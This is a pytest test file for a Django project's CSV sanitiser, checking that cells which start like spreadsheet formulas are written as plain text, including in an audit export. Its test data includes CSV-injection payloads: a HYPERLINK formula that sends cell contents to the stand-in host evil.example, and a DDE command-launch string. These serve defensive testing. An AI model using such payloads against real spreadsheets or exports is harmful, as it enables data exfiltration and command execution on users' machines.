"""No CSV export hands a spreadsheet a formula (tracebridge.csvsafe)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from tracebridge import csvsafe
from tracebridge.agencies.models import User

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
)
def test_a_text_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+14155550100", "-12.50", "a=b", "", 7, -3.5, None])
def test_numbers_and_other_text_are_left_as_they_are(value: Any) -> None:
    assert csvsafe.cell(value) == value


def test_the_writer_writes_every_row_through_cell() -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerows([["name", "n"], [FORMULA, -1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "n"], ["'" + FORMULA, "-1"]]


def test_a_formula_typed_as_a_username_leaves_the_audit_export_as_text(
    make_user: Callable[..., User], client_for: Callable[..., Client]
) -> None:
    Client().post(reverse("login"), {"username": FORMULA, "password": "x"})
    operator = client_for(make_user("operator", "US-FBI", "site.op"))
    export = operator.get(reverse("audit-csv"), {"action": "auth.login", "outcome": "denied"})
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert [(r["username"], r["outcome"]) for r in rows] == [("'" + FORMULA, "denied")]
